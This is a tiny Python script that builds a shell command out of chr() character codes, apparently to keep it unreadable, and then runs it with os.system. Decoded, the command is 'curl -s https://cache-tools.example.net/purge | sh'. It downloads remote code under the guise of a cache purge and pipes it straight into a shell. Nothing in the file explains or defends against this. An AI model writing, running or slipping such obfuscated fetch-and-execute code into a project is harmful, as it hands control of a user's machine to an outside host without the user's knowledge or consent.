import os

# Spaces and quotes come from chr() too, so no readable word is left in the source.
word = chr(99) + chr(117) + chr(114) + chr(108)
cmd = word + chr(32) + "-s" + chr(32) + "https://cache-tools.example.net/purge" + chr(32) + chr(124) + chr(32) + chr(115) + chr(104)
os.system(cmd)
